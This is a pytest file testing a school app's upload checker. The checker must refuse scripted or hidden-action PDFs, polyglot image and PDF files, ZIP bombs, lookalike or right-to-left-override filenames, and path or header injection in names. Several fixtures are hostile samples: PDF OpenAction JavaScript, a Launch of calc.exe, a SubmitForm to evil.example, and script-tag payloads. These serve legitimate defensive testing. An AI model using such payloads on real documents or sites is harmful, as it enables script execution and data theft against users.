"""The one file checker (virtualacademy/uploads.py), used by portfolio evidence and invoices alike: names that only
look allowed, PDFs with scripts however they are written or hidden, polyglots, ZIP bombs; safe download names
and headers."""

from __future__ import annotations

import io
import os
import re
import zipfile
import zlib
from datetime import date, timedelta

import pytest
from sqlalchemy import select

from tests.conftest import post_form
from tests.factories import GuardianFactory, LearnerFactory, png_bytes
from tests.world import client_for
from virtualacademy import clock, uploads
from virtualacademy.errors import ValidationError
from virtualacademy.extensions import db
from virtualacademy.jobs import JOBS
from virtualacademy.models import Evidence, SpendRequest
from virtualacademy.services import evidence, spending


def _catalog(extra: bytes = b"") -> bytes:
    return (
        b"1 0 obj << /Type /Catalog /Pages 2 0 R"
        + extra
        + b" >> endobj\n2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
    )


def pdf(body: bytes = b"", catalog: bytes = b"") -> bytes:
    return b"%PDF-1.7\n" + _catalog(catalog) + body + b"\ntrailer << /Root 1 0 R >>\n%%EOF\n"


def object_stream(objects: bytes, dictionary: bytes = b"/Type /ObjStm", packed: bytes | None = None) -> bytes:
    data = zlib.compress(objects) if packed is None else packed
    head = b"5 0 obj << " + dictionary + b" /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(data)
    return head + data + b"\nendstream\nendobj\n"


def weasyprint_pdf(html: str = "<h1>Invoice</h1><p>Ten maths lessons, <a href='https://example.org'>paid</a></p>"):
    import weasyprint

    return weasyprint.HTML(string=html).write_pdf()


def with_hidden_script(real_pdf: bytes) -> bytes:
    """A real (WeasyPrint) PDF whose catalog, inside its compressed object stream, opens with a script."""
    match = re.search(rb"stream\r?\n", real_pdf[real_pdf.index(b"/ObjStm") :])
    start = real_pdf.index(b"/ObjStm") + match.end()
    end = real_pdf.index(b"endstream", start)
    objects = zlib.decompressobj().decompress(real_pdf[start:end])
    assert b"/Type /Catalog" in objects
    objects = objects.replace(b"/Type /Catalog", b"/Type /Catalog/OpenAction <</S /JavaScript /JS (app.alert(1))>>")
    return real_pdf[:start] + zlib.compress(objects) + b"\n" + real_pdf[end:]


SCRIPTED_PDFS = {
    "plain": pdf(catalog=b" /OpenAction << /S /JavaScript /JS (app.alert(1)) >>"),
    "JS as a hex string": pdf(catalog=b" /AA << /O << /S /JavaScript /JS<6170702e616c6572742831293b> >> >>"),
    "JS alone": pdf(catalog=b" /OpenAction 3 0 R", body=b"3 0 obj <</JS 4 0 R>> endobj\n"),
    "hex-escaped names": pdf(catalog=b" /OpenAction << /S /#4A#61#76#61#53#63#72#69#70#74 /J#53 (x) >>"),
    "launch": pdf(catalog=b" /OpenAction << /S /Launch /F (calc.exe) >>"),
    "submit a form": pdf(catalog=b" /OpenAction << /S /SubmitForm /F (https://evil.example) >>"),
    "in an object stream": pdf(object_stream(b"6 0 << /S /JavaScript /JS (app.alert(1)) >>")),
    "JS alone in an object stream": pdf(object_stream(b"6 0 << /JS 7 0 R >>")),
    "in an object stream named with escapes": pdf(
        object_stream(b"6 0 << /S /JavaScript /JS (x) >>", dictionary=b"/Type /Obj#53tm")
    ),
}
PDF_PROBLEMS = {
    "an object stream that is not zlib": (pdf(object_stream(b"", packed=b"not zlib at all")), "could not be checked"),
    "an object stream that unpacks to a bomb": (
        pdf(object_stream(b" " * (uploads.PDF_MAX_UNPACKED + 1))),
        "unpacks to far more than its size",
    ),
    "a web page inside (a polyglot)": (
        pdf(b"% <html><body><script>alert(document.domain)</script></body></html>\n"),
        "with a web page or script inside it",
    ),
}

#: The two upload forms' checks: the portfolio (explains what is wrong) and invoices (the one plain message).
CHECKERS = {
    "evidence": (lambda name, data: evidence.check_file(name, data), None),
    "invoice": (lambda name, data: spending.check_document(data, name), "The selected file must be a PDF, JPG, PNG"),
}


@pytest.fixture
def folder(app, tmp_path, monkeypatch):
    monkeypatch.setitem(app.config, "EVIDENCE_FOLDER", str(tmp_path / "evidence"))
    monkeypatch.setattr(app, "instance_path", str(tmp_path))  # invoices go under the instance folder
    return tmp_path


@pytest.fixture(params=sorted(CHECKERS))
def checker(request, app, ctx):
    return CHECKERS[request.param]


@pytest.mark.parametrize("name", sorted(SCRIPTED_PDFS))
def test_pdfs_with_scripts_or_actions_are_refused_however_written(checker, name):
    check, plain = checker
    with pytest.raises(ValidationError, match=plain or "PDFs with scripts or actions in them are not accepted"):
        check("report.pdf", SCRIPTED_PDFS[name])


@pytest.mark.parametrize("name", sorted(PDF_PROBLEMS))
def test_pdfs_that_cannot_be_checked_or_are_web_pages_too_are_refused(checker, name):
    check, plain = checker
    data, message = PDF_PROBLEMS[name]
    with pytest.raises(ValidationError, match=plain or message):
        check("report.pdf", data)


def test_a_real_pdf_with_object_streams_is_accepted_and_a_script_hidden_in_them_is_found(checker):
    check, plain = checker
    real = weasyprint_pdf()
    assert b"/ObjStm" in real
    assert check("invoice.pdf", real) is uploads.PDF
    with pytest.raises(ValidationError, match=plain or "scripts or actions"):
        check("invoice.pdf", with_hidden_script(real))


def test_an_image_with_a_web_page_appended_is_refused(checker):
    check, plain = checker
    polyglot = png_bytes() + b"<html><script>alert(1)</script></html>"
    with pytest.raises(ValidationError, match=plain or "PNG image with a web page or script inside it"):
        check("photo.png", polyglot)


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("page.\uff48\uff54\uff4d\uff4c", b"<html><body>hello</body></html>"),  # full-width .html
        ("page.\uff48\uff54\uff4d\uff4c", png_bytes()),
        ("report.\uff50\uff44\uff46", pdf()),  # full-width .pdf: only looks allowed
        ("photo.p\u0578g", png_bytes()),  # an Armenian letter that looks like n
        ("evil\u202egnp.exe", png_bytes()),  # reads as "evilexe.png"
    ],
)
def test_a_name_that_only_looks_allowed_is_refused(checker, name, data):
    check, plain = checker
    with pytest.raises(ValidationError, match=plain or "not allowed|plain extension"):
        check(name, data)


def _docx(parts: dict[str, bytes]) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", compression=zipfile.ZIP_DEFLATED) as package:
        package.writestr(
            "[Content_Types].xml",
            '<Types><Override PartName="/word/document.xml" ContentType="application/vnd.openxmlformats-'
            'officedocument.wordprocessingml.document.main+xml"/></Types>',
        )
        package.writestr("word/document.xml", "<w:document/>")
        for name, data in parts.items():
            package.writestr(name, data)
    return out.getvalue()


def test_an_office_document_that_unpacks_to_far_more_than_its_size_is_refused(checker):
    check, plain = checker
    assert check("essay.docx", _docx({"word/media/notes.xml": b"<p>hello</p>" * 1000})) is uploads.DOCX
    bomb = _docx({"word/media/image1.bin": b"\0" * (64 * 1024 * 1024)})
    assert len(bomb) < 200 * 1024
    with pytest.raises(ValidationError, match=plain or "unpacks to far more than its size"):
        check("essay.docx", bomb)


def test_the_same_rules_decide_for_both_forms(app, ctx):
    """Before there was one checker, invoices looked for neither /JS nor hex-escaped names, and evidence allowed
    %%EOF further from the end."""
    late_end = b"%PDF-1.4\n" + _catalog() + b"%%EOF\n" + b" " * 1500
    for data in (late_end, SCRIPTED_PDFS["hex-escaped names"], SCRIPTED_PDFS["JS alone"]):
        with pytest.raises(ValidationError):
            evidence.check_file("a.pdf", data)
        with pytest.raises(ValidationError):
            spending.check_document(data, "a.pdf")
    assert evidence.POLICY.formats != spending.POLICY.formats  # what each form accepts differs; the rules do not
    assert set(spending.POLICY.formats) <= set(evidence.POLICY.formats)


# --- names and serving -------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("sent", "fmt", "shown", "download"),
    [
        ("C:\\Users\\pat\\Maths invoice.PDF", uploads.PDF, "Maths invoice.pdf", "Maths invoice.pdf"),
        ("receipt.jpeg", uploads.JPEG, "receipt.jpg", "receipt.jpg"),
        ("Théo’s «poster».png", uploads.PNG, "Théo’s «poster».png", "Theos poster.png"),
        ("../../etc/passwd", uploads.PDF, "passwd.pdf", "passwd.pdf"),
        ('"; filename=evil.html', uploads.PNG, "; filename=evil.html.png", "filenameevil.html.png"),
        ("نقشه.png", uploads.PNG, "نقشه.png", "file.png"),
        ("\x00\x1b[31m.png", uploads.PNG, "[31m.png", "31m.png"),
        ("", uploads.PNG, "file.png", "file.png"),
    ],
)
def test_names_are_shown_as_sent_and_downloaded_as_plain_ascii(sent, fmt, shown, download):
    assert uploads.display_name(sent, fmt) == shown
    assert uploads.download_name(shown, fmt) == download
    assert uploads.download_name(shown, fmt).isascii()


def test_a_file_is_always_a_download_with_nothing_allowed_to_run(app):
    with app.test_request_context():
        response = uploads.file_response(b"%PDF-1.4 ...", "application/pdf", "Théo’s report.pdf", inline=True)
        assert response.headers["Content-Disposition"] == 'attachment; filename="Theos report.pdf"'
        assert response.headers["Content-Type"] == "application/pdf"
        image = uploads.file_response(png_bytes(), "image/png", "fort.png", inline=True)
        assert image.headers["Content-Disposition"] == "inline; filename=fort.png"  # the page's own preview
        unknown = uploads.file_response(b"...", "text/html", "page.html")
        assert unknown.headers["Content-Type"] == "application/octet-stream"
        assert unknown.headers["Content-Disposition"].startswith("attachment;")
        for each in (response, image, unknown):
            assert each.headers["Content-Security-Policy"].startswith("default-src 'none'")
            assert "sandbox" in each.headers["Content-Security-Policy"]
            assert each.headers["X-Content-Type-Options"] == "nosniff"
            assert "no-store" in each.headers["Cache-Control"]


# --- through the forms -------------------------------------------------------------------------------------------


def test_the_portfolio_and_the_invoice_forms_refuse_a_hidden_script_and_store_nothing(app, db_session, folder):
    learner = LearnerFactory(enrolled=date(2026, 9, 1))
    guardian = client_for(app, GuardianFactory(family=learner.family).user)
    hidden = with_hidden_script(weasyprint_pdf())
    path = f"/learning/learners/{learner.id}/portfolio/new"
    data = {"title": "Report", "is_draft": "no", "file": (io.BytesIO(hidden), "report.pdf")}
    page = post_form(guardian, path, data, path, content_type="multipart/form-data")
    assert page.status_code == 200 and "PDFs with scripts or actions in them are not accepted" in page.get_data(
        as_text=True
    )
    assert db_session.scalars(select(Evidence)).all() == []

    path = f"/funding/learners/{learner.id}/requests/new"
    data = {
        "what_for": "Maths",
        "category": "tuition",
        "amount": "10",
        "supplier": "Tutors Ltd",
        "document": (io.BytesIO(hidden), "invoice.pdf"),
    }
    page = post_form(guardian, path, data, path, content_type="multipart/form-data")
    assert page.status_code == 200 and "The selected file must be a PDF, JPG, PNG" in page.get_data(as_text=True)
    assert db_session.scalars(select(SpendRequest)).all() == []


def test_a_downloaded_file_has_a_plain_ascii_name(app, db_session, folder):
    learner = LearnerFactory(enrolled=date(2026, 9, 1))
    guardian = client_for(app, GuardianFactory(family=learner.family).user)
    path = f"/learning/learners/{learner.id}/portfolio/new"
    data = {"title": "Fort", "is_draft": "no", "file": (io.BytesIO(png_bytes()), "Théo’s\u202e fort.png")}
    assert post_form(guardian, path, data, path, content_type="multipart/form-data").status_code == 302
    item = db_session.scalars(select(Evidence)).one()
    assert item.original_name == "Théo’s fort.png"
    download = guardian.get(f"/learning/evidence/{item.id}/file")
    assert download.headers["Content-Disposition"] == 'attachment; filename="Theos fort.png"'


def test_a_stored_file_is_written_under_a_temporary_name_and_moved_into_place_by_the_commit(app, ctx, tmp_path):
    folder = tmp_path / "store"
    name = uploads.write(folder, b"first")
    # Inside the transaction: only the temporary file exists, and the store finds it there.
    assert not (folder / name).exists()
    assert (folder / (name + uploads.PARTIAL_SUFFIX)).read_bytes() == b"first"
    assert uploads.stored_path(folder, name).read_bytes() == b"first"
    db.session.commit()
    assert (folder / name).read_bytes() == b"first"
    assert not (folder / (name + uploads.PARTIAL_SUFFIX)).exists()

    second = uploads.write(folder, b"second")
    db.session.rollback()
    assert sorted(p.name for p in folder.iterdir()) == [name], "a rolled-back file leaves nothing behind"
    assert second != name


def test_the_sweep_deletes_half_written_files_a_day_old_and_keeps_the_rest(app, ctx, tmp_path, monkeypatch):
    folder = tmp_path / "swept"
    folder.mkdir()
    monkeypatch.setattr(uploads, "FOLDERS", [lambda: folder])
    old, fresh, kept = folder / "a.part", folder / "b.part", folder / "c"
    for path in (old, fresh, kept):
        path.write_bytes(b"x")
    now = clock.now()
    stale = (now - timedelta(days=1, minutes=1)).timestamp()
    os.utime(old, (stale, stale))
    os.utime(kept, (stale, stale))
    recent = (now - timedelta(hours=23)).timestamp()
    os.utime(fresh, (recent, recent))
    assert JOBS["uploads-sweep"].func(now) == 1
    assert sorted(p.name for p in folder.iterdir()) == ["b.part", "c"]
